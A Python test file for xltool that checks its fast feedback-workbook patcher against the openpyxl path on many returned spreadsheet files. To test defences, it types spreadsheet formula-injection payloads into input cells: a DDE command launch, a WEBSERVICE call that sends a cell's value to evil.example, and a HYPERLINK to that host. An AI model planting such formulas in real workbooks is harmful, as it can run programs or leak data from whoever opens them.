"""The fast feedback path (xltool.read.feedback_patch) against the openpyxl path it replaces.

For many returned files (own-written filled templates of both formats, the client dialects,
LibreOffice re-saves, hostile formulas in inputs, a second round made from a feedback file) and
issues on plain, merged, absent and hidden-sheet cells, both feedback workbooks are loaded with
openpyxl and must agree on everything a township sees: sheets and their order, every cell's value,
type, fill, font, alignment, protection and comment, merges, links, filters, panes, print set-up,
names and the active sheet. Whole values are compared.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import client_dialects
import libreoffice as lo
import openpyxl
import pytest
import test_fuzz
from hypothesis import given
from hypothesis import strategies as st
from test_feedback import INJECTION, LIST, issues

from xltool.base.errors import InputFileError
from xltool.base.internals import existing_cells
from xltool.check.evaluate import flatten
from xltool.check.issues import Issue
from xltool.check.report_json import load_report
from xltool.read.feedback import _sniff, openpyxl_feedback, write_feedback
from xltool.read.feedback_patch import patch
from xltool.read.feedback_styles import Unhandled
from xltool.read.feedback_text import TEXT
from xltool.read.reader import ReadResult, read_workbook
from xltool.spec.layout import build_layout
from xltool.spec.model import load_model
from xltool.template.writer import TemplateOptions, write_template

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ("=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/?"&B4)', INJECTION)
DIALECTS = [
    client_dialects.excel_extensions,
    client_dialects.excel_float_digits,
    client_dialects.explicit_numeric_type,
    client_dialects.inline_strings,
    client_dialects.str_text,
    client_dialects.no_references,
    client_dialects.prefixed_namespace,
]


def filled(schema: str, sample: str, year: int) -> bytes:
    model = load_model(schema)
    values = flatten(model, load_report(ROOT / "samples" / sample))
    values = {p: (float(v) if type(v).__name__ == "Decimal" else v) for p, v in values.items()}
    options = TemplateOptions(year=year, org_name="某乡", issue_date="2026-01-05", values=values)
    return write_template(model, options)[0]


def extra_issues(schema: str) -> list[Issue]:
    """Issues on a merged cell (inside the range), absent cells, a hidden sheet and no cell."""
    layout = build_layout(load_model(schema))
    code = layout.fields["/organization/code"].box
    return [
        Issue("MERGED", "error", "合并区域内", "inside a merge", sheet=code.sheet, cell="C5"),
        Issue("ABSENT_ROW", "warning", "空行", "absent row", sheet=code.sheet, cell="F40"),
        Issue("ABSENT_COL", "error", "空列", "absent column", sheet=code.sheet, cell="K4"),
        Issue("HIDDEN", "warning", "隐藏表", "hidden sheet", sheet="_xltool", cell="B2", found="=1+1"),
        Issue("NOWHERE", "error", "没有单元格", "no cell", pointer="/x", found={"a": [1, "=2"]}),
        Issue("BAD", "warning", "坏坐标", "bad cell", sheet=code.sheet, cell="XFE1"),
    ]


def with_formulas(data: bytes, schema: str) -> bytes:
    """Hostile formulas typed into input cells (and one into a locked label cell)."""
    layout = build_layout(load_model(schema))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    inputs = [f for f in layout.fields.values() if not f.derived][3:6]  # after name, code and year
    for field, formula in zip(inputs, HOSTILE, strict=True):
        box = field.box
        wb[box.sheet][box.a1] = formula
    wb[layout.sheets[1].name]["A1"] = '=HYPERLINK("http://evil.example/","x")'
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _colour(c: Any) -> Any:
    return None if c is None else (c.type, c.rgb if c.type == "rgb" else c.theme if c.type == "theme" else c.indexed)


def snapshot(data: bytes) -> dict[str, Any]:
    """Everything of a feedback workbook a reader of it sees, as plain values.

    Spellings openpyxl does not keep are taken as one: an empty text cell (openpyxl writes
    `<c t="inlineStr"/>`, which it reads back as None of type "inlineStr"; the patch keeps the
    source's cell), an empty unformatted cell and no cell, tabSelected absent or "0"."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out: dict[str, Any] = {
        "sheets": wb.sheetnames,
        "active": wb.active.title,
        "lock": (wb.security.lockStructure if wb.security else None),
        "names": sorted((n, d.value) for n, d in wb.defined_names.items()),
    }
    for ws in wb.worksheets:
        cells = {}
        for c in existing_cells(ws):
            comment = (c.comment.text, c.comment.author) if c.comment else None
            font, align = c.font, c.alignment
            empty = c.value in ("", None) and c.data_type in ("s", "inlineStr", "n")
            if empty and not c.has_style and c.comment is None and c.hyperlink is None:
                continue  # nothing to see: openpyxl drops such a cell when it saves, the patch keeps it
            cells[c.coordinate] = (
                None if empty else c.value,
                "s" if empty else c.data_type,
                (c.fill.fill_type, _colour(c.fill.fgColor)),
                (font.b, font.i, font.sz, font.u, _colour(font.color), font.name),
                (align.horizontal, align.vertical, bool(align.wrap_text)),
                (c.protection.locked, c.protection.hidden),
                c.number_format,
                c.quotePrefix,
                c.border.left.style,
                comment,
                (c.hyperlink.location, c.hyperlink.target) if c.hyperlink else None,
            )
        out[ws.title] = {
            "cells": cells,
            "state": ws.sheet_state,
            "protection": dict(ws.protection),
            "merged": sorted(str(r) for r in ws.merged_cells.ranges),
            "filter": ws.auto_filter.ref,
            "freeze": ws.freeze_panes,
            "selected": [bool(v.tabSelected) for v in ws.views.sheetView],
            "titles": (ws.print_title_rows, ws.print_title_cols, ws.print_area),
            "page": (ws.page_setup.orientation, ws.page_setup.fitToHeight, ws.sheet_properties.pageSetUpPr.fitToPage)
            if ws.sheet_properties.pageSetUpPr
            else (ws.page_setup.orientation, ws.page_setup.fitToHeight, None),
            "widths": {k: d.width for k, d in ws.column_dimensions.items() if d.customWidth},
            "validations": len(ws.data_validations.dataValidation),
            "conditional": len(ws.conditional_formatting),
            "local names": sorted((n, d.value) for n, d in ws.defined_names.items()),
        }
    return out


def both(data: bytes, found: list[Issue], tmp: Path, lang: str = "zh", title: str | None = None) -> tuple[bytes, bytes]:
    source = tmp / "source.xlsx"
    source.write_bytes(data)
    sniffed = _sniff(source)
    fast = patch(sniffed.data, found, TEXT[lang], lang, title)
    slow = openpyxl_feedback(sniffed, source, found, lang=lang, title=title)
    return fast, slow


def diff(a: dict[str, Any], b: dict[str, Any]) -> list[Any]:
    """The first differences, readable in a failure (the test compares the whole snapshots)."""
    out: list[Any] = []
    for key in sorted(set(a) | set(b)):
        if a.get(key) == b.get(key):
            continue
        if isinstance(a.get(key), dict) and isinstance(b.get(key), dict):
            out += [(key, *d) for d in diff(a[key], b[key])]
        else:
            out.append((key, a.get(key), b.get(key)))
    return out[:20]


def make_sources() -> dict[str, tuple[bytes, str]]:
    """Returned files by name: (bytes, schema)."""
    f21, f19 = (
        filled("annual-report-2021", "synthetic-2021.json", 2025),
        filled("annual-report-2019", "hucun-2020.json", 2020),
    )
    out = {"own-2021": (f21, "annual-report-2021"), "own-2019": (f19, "annual-report-2019")}
    out["formulas-2021"] = (with_formulas(f21, "annual-report-2021"), "annual-report-2021")
    out["formulas-2019"] = (with_formulas(f19, "annual-report-2019"), "annual-report-2019")
    for rewrite in DIALECTS:
        out[rewrite.__name__] = (client_dialects.apply(out["formulas-2021"][0], rewrite), "annual-report-2021")
    return out


@pytest.fixture(scope="module")
def sources() -> dict[str, tuple[bytes, str]]:
    return make_sources()


def issues_for(path: Path, schema: str) -> list[Issue]:
    return read_workbook(path, model=load_model(schema)).issues + extra_issues(schema)


def test_patched_feedback_equals_the_openpyxl_one(sources: dict[str, tuple[bytes, str]], tmp_path: Path) -> None:
    for name, (data, schema) in sources.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(data)
        found = issues_for(path, schema) + (issues() if schema == "annual-report-2021" else [])
        fast, slow = both(data, found, tmp_path)
        a, b = snapshot(fast), snapshot(slow)
        assert diff(a, b) == [], name
        assert a == b, name


def test_second_round_from_a_feedback_file(sources: dict[str, tuple[bytes, str]], tmp_path: Path) -> None:
    """A feedback file sent in again: the old list sheet and stale comments are replaced, in either
    language, whichever path wrote the first round."""
    data, schema = sources["formulas-2021"]
    first_issues = issues() + extra_issues(schema)
    for n, first in enumerate(both(data, first_issues, tmp_path)):
        for lang in ("zh", "en"):
            fast, slow = both(first, issues()[2:4], tmp_path, lang=lang, title=f"第 {n + 2} 轮")
            a, b = snapshot(fast), snapshot(slow)
            assert diff(a, b) == [], (n, lang)
            assert a == b
            assert a["sheets"][-1] == TEXT[lang]["sheet"] and a["active"] == TEXT[lang]["sheet"]


def test_the_corpus_takes_the_fast_path(sources: dict[str, tuple[bytes, str]], tmp_path: Path) -> None:
    """Own-written files, every client dialect, hostile formulas and feedback files: none falls back."""
    fallbacks = []
    for name, (data, _) in sources.items():
        try:
            first = patch(data, issues() + extra_issues("annual-report-2021"), TEXT["zh"], "zh", None)
            patch(first, issues()[:2], TEXT["zh"], "zh", None)
        except Unhandled as why:
            fallbacks.append((name, str(why)))
    assert (len(sources), fallbacks) == (11, [])


def _edited(data: bytes, edit: Any) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    edit(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _reviewer_comment(wb: openpyxl.Workbook) -> None:
    wb.worksheets[1]["A1"].comment = openpyxl.comments.Comment("请核对", "县政务公开办")


def _chart_sheet(wb: openpyxl.Workbook) -> None:
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(wb.worksheets[1], min_col=2, min_row=4, max_row=6))
    wb.create_chartsheet("图表").add_chart(chart)


def _shared_formula(xml: str, strings: list[str]) -> str:
    """The WEBSERVICE formula typed into an input made the master of a (one-cell) shared formula."""
    shared = r'<c r="\1"\2><f t="shared" ref="\1" si="0">WEBSERVICE'
    return re.sub(r'<c r="([A-Z]+[0-9]+)"([^>]*)><f>WEBSERVICE', shared, xml)


def test_what_the_patcher_does_not_handle_takes_the_openpyxl_path(
    sources: dict[str, tuple[bytes, str]], tmp_path: Path
) -> None:
    own, _ = sources["own-2021"]
    first = patch(own, issues(), TEXT["zh"], "zh", None)
    cases = {
        "reviewer comment": (_edited(own, _reviewer_comment), "not written by xltool"),
        "chart sheet": (_edited(own, _chart_sheet), "is not a worksheet"),
        "shared formula to drop": (
            client_dialects.apply(sources["formulas-2021"][0], _shared_formula),
            "a shared formula to drop",
        ),
        "old list not last": (_edited(first, lambda wb: wb.move_sheet(LIST, -2)), "earlier list sheet"),
    }
    for name, (data, why) in cases.items():
        with pytest.raises(Unhandled, match=why):
            patch(data, issues(), TEXT["zh"], "zh", None)
        source, out = tmp_path / f"{name}.xlsx", tmp_path / f"{name}-反馈.xlsx"
        source.write_bytes(data)
        write_feedback(source, issues(), out)
        assert snapshot(out.read_bytes()) == snapshot(
            openpyxl_feedback(_sniff(source), source, issues(), lang="zh", title=None)
        )
    got = openpyxl.load_workbook(tmp_path / "reviewer comment-反馈.xlsx").worksheets[1]["A1"].comment
    assert (got.text, got.author) == ("请核对", "县政务公开办")  # the reviewer's comment is kept


@pytest.mark.needs("soffice")
def test_libreoffice_saved_sources_and_libreoffice_reads_the_patched_file(
    sources: dict[str, tuple[bytes, str]], tmp_path: Path
) -> None:
    """Files LibreOffice saved take the fast path with the same result; LibreOffice opens what the
    patcher wrote and keeps its fills, comments, dropped formulas and the list sheet."""
    names = ["own-2021", "formulas-2021", "own-2019"]
    originals = []
    for name in names:
        originals.append(tmp_path / "in" / f"{name}.xlsx")
        originals[-1].parent.mkdir(exist_ok=True)
        originals[-1].write_bytes(sources[name][0])
    saved = lo.convert_many(originals, tmp_path / "lo", "xlsx")
    patched = []
    for name, path in zip(names, saved, strict=True):
        schema = sources[name][1]
        found = issues_for(path, schema) + (issues() if schema == "annual-report-2021" else [])
        fast, slow = both(path.read_bytes(), found, tmp_path)
        a, b = snapshot(fast), snapshot(slow)
        assert diff(a, b) == [], name
        assert a == b, name
        patched.append(tmp_path / "out" / f"{name}.xlsx")
        patched[-1].parent.mkdir(exist_ok=True)
        patched[-1].write_bytes(fast)
    for path, back in zip(patched, lo.convert_many(patched, tmp_path / "back", "xlsx"), strict=True):
        ours, theirs = snapshot(path.read_bytes()), snapshot(back.read_bytes())
        assert theirs["sheets"] == ours["sheets"] and theirs["active"] == ours["active"]
        for sheet in ours["sheets"]:
            mine = {k: (v[0], v[2], v[9]) for k, v in ours[sheet]["cells"].items() if v[2][0] == "solid" or v[9]}
            kept = {
                k: (theirs[sheet]["cells"][k][0], theirs[sheet]["cells"][k][2], theirs[sheet]["cells"][k][9])
                for k in mine
            }
            if sheet == ours["sheets"][-1]:  # the list sheet: every value
                assert {k: v[0] for k, v in theirs[sheet]["cells"].items() if v[0] is not None} == {
                    k: v[0] for k, v in ours[sheet]["cells"].items() if v[0] is not None
                }
            assert {k: (v[0], v[1]) for k, v in kept.items()} == {k: (v[0], v[1]) for k, v in mine.items()}, sheet
            assert {k: v[2][0] if v[2] else None for k, v in kept.items()} == {
                k: v[2][0] if v[2] else None for k, v in mine.items()
            }, sheet


@test_fuzz.fuzz(60)
@given(steps=st.lists(test_fuzz.mutations, min_size=1, max_size=2))
def test_damaged_files_get_the_same_feedback_verdict(steps: list[Any]) -> None:
    """Damaged files that still read: where openpyxl refuses to write feedback the patcher falls back
    (so the refusal stands), and where both write, the workbooks agree."""
    parts = test_fuzz.PARTS["xlsxwriter-2021"]
    for step in steps:
        parts = step(parts)
    outcome, path, tmp = test_fuzz._read(test_fuzz._zip(parts))
    with tmp:
        if not isinstance(outcome, ReadResult):
            return
        sniffed = _sniff(path)
        try:
            slow: bytes | str = openpyxl_feedback(sniffed, path, outcome.issues, lang="zh", title=None)
        except InputFileError as exc:
            slow = exc.code
        try:
            fast: bytes | str = patch(sniffed.data, outcome.issues, TEXT["zh"], "zh", None)
        except Unhandled:
            return  # write_feedback takes the openpyxl path: the same verdict by construction
        assert not isinstance(slow, str), slow  # the patcher wrote a file openpyxl refused
        assert isinstance(fast, bytes) and diff(snapshot(fast), snapshot(slow)) == []
